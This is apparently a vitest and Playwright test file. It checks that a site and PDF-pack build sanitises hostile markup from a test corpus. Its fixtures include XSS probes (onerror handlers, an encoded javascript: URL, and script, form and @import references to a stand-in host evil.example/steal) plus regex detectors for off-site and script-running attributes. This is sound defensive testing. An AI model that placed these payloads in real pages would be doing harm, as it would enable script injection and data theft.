/**
 * The site and the PDF pack built from the hardening corpus: bad files beside good ones, a symbolic link
 * out of the root, and a valid case (H-0004) whose name, worker, decision, action and body carry hostile
 * markup. Every good child is still built and printed; in Chromium no payload runs (with the page's CSP
 * bypassed, so it is the sanitiser that is tested, not the CSP); the built HTML has no script but the
 * site's own files, no event attribute, no `javascript:` or `data:` URL, and nothing that refers to another
 * host; the hostile text is shown as text.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readDataRoot } from '../../src/data/data-root.js';
import { REPO } from '../cli/run.js';
import { HAVE_CHROMIUM, launch, serve } from '../e2e/harness.js';
import { AS_OF, BAD, corpusCopy, OUTSIDE_SECRET } from './corpus.js';

const run = HAVE_CHROMIUM || !!process.env.CI;
/** The only scripts the site may load: its own files. */
const OWN_SCRIPTS = /^(\.\.\/)*(\.\/)?(assets\/(tracker|pack-config|paged\.polyfill)\.js|_astro\/[\w.-]+\.js)$/;

function files(dir: string, ext: string): string[] {
  const out: string[] = [];
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const abs = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...files(abs, ext));
    else if (e.name.endsWith(ext)) out.push(abs);
  }
  return out;
}

/**
 * Every start tag of a page with its attributes, and for a script or style the text up to its end tag.
 * Text content and attribute values are not tags: a quoted `<script>` in an attribute is inert.
 */
function tags(html: string): { name: string; attrs: [string, string][]; body?: string }[] {
  const out: { name: string; attrs: [string, string][]; body?: string }[] = [];
  for (const m of html.matchAll(/<([a-zA-Z][\w:-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>/g)) {
    const attrs: [string, string][] = [];
    for (const a of m[2].matchAll(/([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g)) attrs.push([a[1].toLowerCase(), a[2] ?? a[3] ?? a[4] ?? '']);
    const name = m[1].toLowerCase();
    const end = m.index + m[0].length;
    const close = name === 'script' || name === 'style' ? html.toLowerCase().indexOf(`</${name}`, end) : -1;
    out.push({ name, attrs, ...(close >= 0 ? { body: html.slice(end, close) } : {}) });
  }
  return out;
}

const decode = (s: string) => s.replace(/&#x([0-9a-f]+);?/gi, (_, h) => String.fromCodePoint(parseInt(h, 16))).replace(/&#(\d+);?/g, (_, d) => String.fromCodePoint(Number(d))).replace(/&colon;/gi, ':').replace(/&amp;/g, '&');
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'srcset', 'poster', 'data', 'background', 'cite', 'longdesc', 'ping', 'manifest']);
const OFF_SITE = /^\s*(?:[a-z][a-z0-9+.-]*:)?[\\/]{2}/i;

/** Everything in one page that could run script or reach another host. */
function problemsIn(html: string): string[] {
  const found: string[] = [];
  for (const t of tags(html)) {
    if (['iframe', 'frame', 'object', 'embed', 'base', 'applet', 'portal'].includes(t.name)) found.push(`<${t.name}>`);
    if (t.body?.trim() && t.name === 'script') found.push(`inline script: ${t.body.trim().slice(0, 60)}`);
    if (t.body && t.name === 'style') found.push(...cssProblems(t.body).map((p) => `<style>: ${p}`));
    if (t.name === 'meta' && t.attrs.some(([k, v]) => k === 'http-equiv' && /refresh/i.test(v))) found.push('<meta refresh>');
    if (t.name === 'script') {
      const src = t.attrs.find(([k]) => k === 'src')?.[1];
      if (!src || !OWN_SCRIPTS.test(src)) found.push(`<script src=${src ?? '(inline)'}>`);
    }
    for (const [k, raw] of t.attrs) {
      const v = decode(raw).replace(/[\u0000-\u0020]/g, '');
      if (/^on/.test(k)) found.push(`${k}= on <${t.name}>`);
      if (k === 'srcdoc') found.push(`srcdoc on <${t.name}>`);
      if (URL_ATTRS.has(k) && /^(javascript|vbscript|data|file):/i.test(v)) found.push(`${k}="${raw}" on <${t.name}>`);
      if (URL_ATTRS.has(k) && (OFF_SITE.test(raw) || /^https?:/i.test(v))) found.push(`${k}="${raw}" on <${t.name}> (another host)`);
      if (k === 'style' && /url\s*\(|expression\s*\(|@import/i.test(decode(raw))) found.push(`style="${raw}" on <${t.name}>`);
    }
  }
  return found;
}

function cssProblems(css: string): string[] {
  const found: string[] = [];
  for (const m of css.matchAll(/@import\s+(?:url\()?\s*["']?([^"')\s;]+)/gi)) if (OFF_SITE.test(m[1]) || /^https?:/i.test(m[1])) found.push(`@import ${m[1]}`);
  for (const m of css.matchAll(/url\(\s*["']?([^"')]+)/gi)) if (OFF_SITE.test(m[1]) || /^(https?|javascript):/i.test(m[1].trim())) found.push(`url(${m[1]})`);
  return found;
}

describe.runIf(run)('hostile markup and bad files: the site and the pack', () => {
  let root: string;
  let dist: string;
  let build: { stdout: string; stderr: string };
  let server: Awaited<ReturnType<typeof serve>>;
  let browser: Browser;
  let context: BrowserContext;
  let pages: string[];
  const requests: string[] = [];
  const dialogs: string[] = [];
  const consoleErrors: string[] = [];

  beforeAll(async () => {
    root = corpusCopy();
    dist = mkdtempSync(path.join(tmpdir(), 'panel-hostile-site-'));
    // The real build, pack included (PANEL_NO_PACK unset), as `npm run build` runs it.
    const r = spawnSync(process.execPath, ['--import', 'tsx', path.join(REPO, 'scripts/build.ts')], {
      cwd: REPO,
      encoding: 'utf8',
      env: { ...process.env, PANEL_ROOT: root, PANEL_AS_OF: AS_OF, PANEL_DIST: dist, PANEL_BUILD_QUIET: '1', PANEL_NO_PACK: '' },
    });
    build = { stdout: r.stdout, stderr: r.stderr };
    if (r.status !== 0) throw new Error(`build failed:\n${r.stdout}\n${r.stderr}`);
    pages = files(dist, '.html');
    server = await serve(dist);
    browser = await launch();
    // The CSP would block inline script anyway: bypass it, so a payload left in the HTML would run.
    context = await browser.newContext({ bypassCSP: true });
    context.on('request', (req) => requests.push(req.url()));
    context.on('page', (page) => {
      page.on('dialog', (d) => {
        dialogs.push(`${page.url()}: ${d.message()}`);
        void d.dismiss();
      });
      page.on('console', (m) => {
        if (m.type() === 'error') consoleErrors.push(`${page.url()}: ${m.text()}`);
      });
    });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    if (root) rmSync(path.dirname(root), { recursive: true, force: true });
    if (dist) rmSync(dist, { recursive: true, force: true });
  });

  it('builds every good child, lists every bad file, and prints both packs', () => {
    expect(build.stdout).toMatch(/Pack: .*pack-2026-12-04\.pdf/);
    expect(build.stdout).toMatch(/Pack: .*pack-2026-12-04-redacted\.pdf/);
    const rel = pages.map((p) => path.relative(dist, p).split(path.sep).join('/'));
    for (const id of ['H-0001', 'H-0002', 'H-0003', 'H-0004', 'H-2001', 'H-2002']) expect(rel).toContain(`children/${id}/index.html`);
    const invalid = readFileSync(path.join(dist, 'invalid', 'index.html'), 'utf8');
    for (const file of Object.keys(BAD)) expect(invalid, file).toContain(file);
    // The themes count valid case files only, and say how many are left out until fixed.
    const notCounted = readDataRoot(root).cases.filter((c) => !c.value).length;
    expect(notCounted).toBeGreaterThan(0);
    const themes = readFileSync(path.join(dist, 'themes', 'index.html'), 'utf8');
    expect(themes).toContain('data-testid="themes-not-counted"');
    expect(themes).toContain(`${notCounted} case files must be fixed before their children are counted in these themes.`);
    // The meeting file that cannot be read (a minutes date that does not exist) is named on the agenda, and
    // its meeting still counts as held.
    const agendaPage = readFileSync(path.join(dist, 'agenda', 'index.html'), 'utf8');
    expect(agendaPage).toMatch(/data-testid="unreadable-meetings"[^]*The meeting file meetings\/2026-11-06\.md could not be read/);
    expect(agendaPage).toContain('following up the panel of Friday 6 November 2026');
    const pdf = execFileSync('pdftotext', ['-layout', path.join(dist, 'pack-2026-12-04.pdf'), '-'], { encoding: 'utf8' });
    expect(pdf.replace(/\s+/g, ' ')).toContain('The meeting file meetings/2026-11-06.md could not be read');
    expect(pdf).toContain('Ann Good (H-0001)');
    expect(pdf).toContain("Hal <script>window.__pwned='name'</script> Hostile (H-0004)");
    expect(pdf).toContain('Hal is settled.');
    expect(pdf).toContain("<script>window.__pwned = 'script'; document.title = 'PWNED';</script>");
    for (const out of [build.stdout, build.stderr, pdf]) expect(out).not.toContain(OUTSIDE_SECRET);
  });

  it('no page has a script but the site\'s own, an event attribute, a javascript: or data: URL, or anything that refers to another host', () => {
    expect(pages.length).toBeGreaterThan(15);
    const found: string[] = [];
    for (const page of pages) {
      const html = readFileSync(page, 'utf8');
      for (const p of problemsIn(html)) found.push(`${path.relative(dist, page)}: ${p}`);
      expect(html).not.toContain(OUTSIDE_SECRET);
    }
    expect(found).toEqual([]);
    // The stylesheets and scripts the pages load refer to nothing elsewhere either.
    for (const css of files(dist, '.css')) expect(cssProblems(readFileSync(css, 'utf8')), css).toEqual([]);
  });

  it('the checks above do catch what they look for (they are not vacuous)', () => {
    expect(problemsIn('<img src=x onerror="alert(1)">')).toEqual(['onerror= on <img>']);
    expect(problemsIn('<a href="jav&#x61;script:alert(1)">x</a>')).toHaveLength(1);
    expect(problemsIn('<a href="//evil.example">x</a><img src="https://evil.example/p.png">')).toHaveLength(2);
    expect(problemsIn('<script>alert(1)</script><script src="https://evil.example/x.js"></script>')).toHaveLength(4);
    expect(problemsIn('<form action="https://evil.example/steal"></form><button formaction="javascript:x()">')).toHaveLength(2);
    expect(problemsIn('<p data-name="Hal <script>x()</script>">text</p>')).toEqual([]);
    expect(problemsIn('<style>@import url(https://evil.example/x.css)</style>')).toHaveLength(2);
    expect(problemsIn('<iframe srcdoc="x"></iframe>')).toHaveLength(2);
    expect(problemsIn('<p>&#x3C;img src=x onerror=alert(1)> shown as text</p>')).toEqual([]);
  });

  it('in Chromium, no payload runs on any page (site, pack and redacted pack), no dialog opens, nothing is requested from elsewhere', async () => {
    for (const file of pages) {
      const rel = path.relative(dist, file).split(path.sep).join('/');
      const page = await context.newPage();
      await page.goto(`${server.url}/${rel}`, { waitUntil: 'load' });
      if (rel.startsWith('pack/')) {
        // Paged.js lays the pack out into pages: the hostile text is in the DOM once it has finished.
        await page.waitForFunction(() => document.documentElement.getAttribute('data-paged') === 'done', null, { timeout: 120_000, polling: 200 });
      }
      // Hover and click everything a payload could hang on, then look for its traces.
      await page.mouse.move(200, 300);
      await page.mouse.move(10, 10);
      const state = await page.evaluate(() => ({
        pwned: (window as unknown as { __pwned?: string }).__pwned ?? null,
        title: document.title,
        handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`)),
        links: [...document.querySelectorAll('a[href]')].map((a) => (a as HTMLAnchorElement).href).filter((h) => !h.startsWith(location.origin) && !h.startsWith('mailto:')),
        frames: document.querySelectorAll('iframe, frame, object, embed').length,
      }));
      expect(state, rel).toEqual({ pwned: null, title: expect.not.stringContaining('PWNED'), handlers: [], links: [], frames: 0 });
      await page.close();
    }
    expect(dialogs).toEqual([]);
    const foreign = requests.filter((u) => !u.startsWith(server.url) && !u.startsWith('data:') && !u.startsWith('blob:') && !u.startsWith('about:'));
    expect(foreign).toEqual([]);
    expect(consoleErrors.filter((e) => /pwned|evil\.example/i.test(e))).toEqual([]);
  }, 300_000);

  it('shows the hostile text as text on the child page: nothing hidden, nothing run', async () => {
    const page = await context.newPage();
    await page.goto(`${server.url}/children/H-0004/index.html`);
    const main = await page.locator('main').innerText();
    expect(main).toContain("Hal <script>window.__pwned='name'</script> Hostile");
    expect(main).toContain("<script>window.__pwned = 'script'; document.title = 'PWNED';</script>");
    expect(main).toContain('<img src=x onerror="window.__pwned=\'img\'">');
    expect(main).toContain('external (https://evil.example/page)');
    expect(main).toContain('a link (link removed)');
    expect(main).toContain('[image not shown: pixel]');
    expect(main).toContain("Endorsed <script>window.__pwned='decision'</script>");
    await page.goto(`${server.url}/meetings/2026-10-02/index.html`);
    const minutes = await page.locator('main').innerText();
    expect(minutes).toContain("<script>window.__pwned='meeting'</script>");
    expect(minutes).toContain('the minutes (link removed) and <img src=x onerror="window.__pwned=\'meeting-img\'">');
    await page.close();
  });
});
